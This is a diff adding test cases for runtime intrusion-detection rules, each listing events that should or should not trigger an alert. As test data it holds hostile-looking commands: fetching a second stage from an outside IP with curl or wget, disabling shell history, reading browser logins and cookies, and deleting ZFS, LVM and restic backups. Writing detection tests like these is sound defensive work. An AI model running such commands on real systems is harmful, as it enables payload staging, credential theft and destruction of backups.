@@ -115,6 +115,111 @@ export const OUR_RULE_CASES: Readonly<Record<string, RuleCase>> = {
     fires: [run(POD, 'base64 -d')],
     stays: [run(POD, 'base64 file'), run(HOST, 'base64 -d')],
   },
+  'Program Run Minutes After It Was Written': {
+    fires: [
+      run({ ...POD, isBorn: true }, 'x', { exepath: '/srv/x', writtenBefore: 60 }),
+      run({ ...POD, isBorn: true }, 'x', { exepath: '/srv/x', writtenBefore: 60, flags: UPPER_LAYER }),
+      run({ isBorn: true }, 'x', { exepath: '/tmp/x', writtenBefore: 60 }),
+      run({ isBorn: true }, 'x', { exepath: '/home/ada/.cache/x', writtenBefore: 60 }),
+      run({ isBorn: true, parents: ['sh', 'nginx'] }, 'x', { exepath: '/srv/x', writtenBefore: 60 }),
+      run({ isBorn: true, parents: ['sh', 'cron'] }, 'x', { exepath: '/srv/x', writtenBefore: 60 }),
+      // its own process wrote it, and became it
+      run({ isBorn: true }, 'x', { exepath: '/run/x', writtenBefore: -60 }),
+    ],
+    stays: [
+      run({ isBorn: true }, 'x', { exepath: '/home/ada/x', writtenBefore: 60 }),
+      run({ isBorn: true }, 'x', { exepath: '/tmp/x', writtenBefore: 900 }),
+      run({ ...POD, isBorn: true }, 'x', { exepath: '/srv/x', writtenBefore: 7200 }),
+      run({ ...POD, isBorn: true }, 'x', { exepath: '/usr/bin/x', writtenBefore: 60 }),
+      run({ isBorn: true, parents: ['dpkg'] }, 'x', { exepath: '/tmp/x', writtenBefore: 60 }),
+      run({ isBorn: true, parents: ['make'] }, 'x', { exepath: '/tmp/x', writtenBefore: 60 }),
+      run({ ...POD, isBorn: true }, 'runc', { exepath: '/tmp/runc', writtenBefore: 60 }),
+      run({ ...POD, isBorn: true }, 'x', { exepath: 'memfd:x', writtenBefore: 60, flags: MEMFD }),
+      run(HOST, 'x', { exepath: '/tmp/x', writtenBefore: 60 }),
+    ],
+  },
+  'New Program Connected Out': {
+    fires: [scene({ isBorn: true }, runs(['x'], { exepath: '/srv/x', writtenBefore: 60 }), connects('203.0.113.7', 443))],
+    stays: [
+      scene({ isBorn: true }, runs(['x'], { exepath: '/srv/x', writtenBefore: 60 }), connects('10.0.0.9', 443)),
+      scene({ isBorn: true }, runs(['x'], { exepath: '/srv/x', writtenBefore: 900 }), connects('203.0.113.7', 443)),
+      scene({ isBorn: true }, runs(['x'], { exepath: '/srv/x', writtenBefore: 60 }), reads('/srv/y')),
+    ],
+  },
+  'Script Run From Temporary Folder': {
+    fires: [
+      run(HOST, 'x.sh', { exepath: '/usr/bin/dash', filename: '/tmp/x.sh' }),
+      run({ ...POD, cwd: '/var/tmp/' }, 'x.sh', { exepath: '/usr/bin/dash', filename: './x.sh' }),
+    ],
+    stays: [
+      run(HOST, 'x.sh', { exepath: '/usr/bin/dash', filename: '/srv/x.sh' }),
+      run(HOST, 'x', { exepath: '/tmp/x' }),
+      run({ parents: ['dpkg'] }, 'postinst', { exepath: '/usr/bin/dash', filename: '/tmp/dpkg/postinst' }),
+    ],
+  },
+  'File Made Executable By A Server Or Under A Hidden Name': {
+    fires: [
+      scene({ name: 'chmod', parents: ['sh', 'nginx'] }, setsMode('/srv/x', 0o755)),
+      scene({ ...POD, name: 'chmod', parents: ['postgres'] }, setsMode('/srv/x', 0o100)),
+      scene(HOST, setsMode('/tmp/.x', 0o755)),
+    ],
+    stays: [
+      scene({ name: 'chmod', parents: ['sh', 'nginx'] }, setsMode('/srv/x', 0o644)),
+      scene({ name: 'chmod', parents: ['sh', 'nginx'] }, calls(EVENT.CHMOD_X, { res: -1, filename: '/srv/x', mode: 0o755 })),
+      scene({ name: 'chmod', parents: ['dpkg', 'nginx'] }, setsMode('/srv/x', 0o755)),
+      scene(HOST, setsMode('/tmp/x', 0o755)),
+      scene(HOST, setsMode('/home/ada/.x', 0o755)),
+    ],
+  },
+  'Second Stage Fetched': {
+    fires: [
+      run({ parents: ['sh', 'nginx'] }, 'curl -o /srv/x http://203.0.113.7/x'),
+      run(HOST, 'wget -O /tmp/.x http://203.0.113.7/x'),
+      run(POD, 'curl -s -o /dev/shm/x http://203.0.113.7/x'),
+    ],
+    stays: [
+      run(HOST, 'curl -o /tmp/x http://203.0.113.7/x'),
+      run({ parents: ['nginx'] }, 'wget -q --spider http://10.0.0.1/'),
+      run({ parents: ['nginx'] }, 'curl http://10.0.0.1/'),
+      scene({ name: 'curl', args: ['-o', '/tmp/.x', 'http://203.0.113.7/x'], parents: ['nginx'] }, reads('/etc/hosts')),
+    ],
+  },
+  'Shell Started Without Its History': {
+    fires: [run(HOST, 'bash', { env: ['HISTFILE=/dev/null'] }), run(POD, 'sh', { env: ['HISTSIZE=0'] }), run(HOST, 'zsh', { env: ['HISTFILESIZE=0'] })],
+    stays: [run(HOST, 'bash', { env: ['HISTFILE=/root/.history', 'HISTSIZE=1000'] }), run(HOST, 'ls', { env: ['HISTFILE=/dev/null'] })],
+  },
+  'Program Masquerades As System Service': {
+    fires: [run(HOST, 'sshd', { exepath: '/home/ada/sshd' }), run(POD, 'crond', { exepath: '/tmp/crond' })],
+    stays: [run(HOST, 'sshd', { exepath: '/usr/sbin/sshd' }), run(HOST, 'x', { exepath: '/home/ada/x' }), run(HOST, 'sshd', { exepath: '' })],
+  },
+  'Compiler Run In Container': {
+    fires: [run(POD, 'gcc -o x x.c'), run(POD, 'go build')],
+    stays: [run(HOST, 'gcc -o x x.c'), run(POD, 'gccgo'), run({ ...POD, parents: ['apt-get'] }, 'gcc -o x x.c')],
+  },
+  'Udev Rule Written': {
+    fires: [scene(HOST, writes('/etc/udev/rules.d/99-x.rules')), scene(POD, writes('/run/udev/rules.d/x.rules'))],
+    stays: [
+      scene({ name: 'dpkg' }, writes('/usr/lib/udev/rules.d/x.rules')),
+      scene({ name: 'cp', parents: ['dpkg'] }, writes('/usr/lib/udev/rules.d/x.rules')),
+      scene({ name: 'systemd-hwdb' }, writes('/etc/udev/hwdb.bin')),
+      scene(HOST, reads('/etc/udev/rules.d/99-x.rules')),
+    ],
+  },
+  'Browser Passwords Read': {
+    fires: [
+      scene({ name: 'cat' }, reads('/home/ada/.mozilla/firefox/x/logins.json')),
+      scene({ name: 'cp' }, reads('/home/ada/.config/google-chrome/Default/Cookies')),
+    ],
+    stays: [scene({ name: 'firefox' }, reads('/home/ada/.mozilla/firefox/x/logins.json')), scene({ name: 'cat' }, writes('/home/ada/.mozilla/firefox/x/logins.json'))],
+  },
+  'Backups Or Snapshots Deleted': {
+    fires: [run(HOST, 'lvremove -f vg0/daily'), run(HOST, 'btrfs subvolume delete /snap/1'), run(HOST, 'zfs destroy tank/a@b'), run(POD, 'restic forget --keep-last 0')],
+    stays: [run(HOST, 'btrfs subvolume list /'), run(HOST, 'zfs list'), run(HOST, 'restic snapshots'), scene({ name: 'lvremove' }, reads('/etc/lvm/lvm.conf'))],
+  },
+  'Remote Access Tool Executed': {
+    fires: [run(HOST, 'tmate -F'), run(POD, 'rustdesk')],
+    stays: [run(HOST, 'tmux'), scene({ name: 'tmate' }, reads('/etc/hosts'))],
+  },
   'Drop and execute new binary in container': {
     fires: [run(POD, 'x', { exepath: '/tmp/x', flags: UPPER_LAYER })],
     stays: [run(POD, 'x'), run(HOST, 'x', { flags: UPPER_LAYER })],
@@ -189,8 +294,9 @@ export const OUR_RULE_CASES: Readonly<Record<string, RuleCase>> = {
     stays: [scene({ name: 'systemctl' }, creates('/etc/systemd/system/x.service'))],
   },
   'Schedule Cron Jobs': {
-    fires: [scene(HOST, creates('/etc/cron.d/x')), run(POD, 'crontab -e'), scene(HOST, creates('/var/spool/cron/root'))],
-    stays: [scene({ name: 'crond' }, creates('/var/spool/cron/root')), run(POD, 'crontab -l'), scene(BUILD, creates('/etc/cron.d/x'))],
+    fires: [scene(HOST, creates('/etc/cron.d/x')), run(POD, 'crontab -e'), scene(HOST, creates('/var/spool/cron/root')),
+      scene(HOST, renames('/tmp/x', '/etc/cron.d/x')), scene(POD, linksSoftly('/tmp/x', '/etc/cron.hourly/x')), scene(HOST, linksHard('/tmp/x', '/var/spool/cron/root'))],
+    stays: [scene({ name: 'crontab' }, renames('/var/spool/cron/tmp.1', '/var/spool/cron/root')), scene(HOST, renames('/etc/cron.d/x', '/tmp/x')), scene({ name: 'crond' }, creates('/var/spool/cron/root')), run(POD, 'crontab -l'), scene(BUILD, creates('/etc/cron.d/x'))],
   },
   'Modify Shell Configuration File': {
     fires: [scene(HOST, writes('/home/ada/.bashrc')), scene(HOST, creates('/etc/profile.d/x.sh')), scene(HOST, writes('/etc/profile'))],
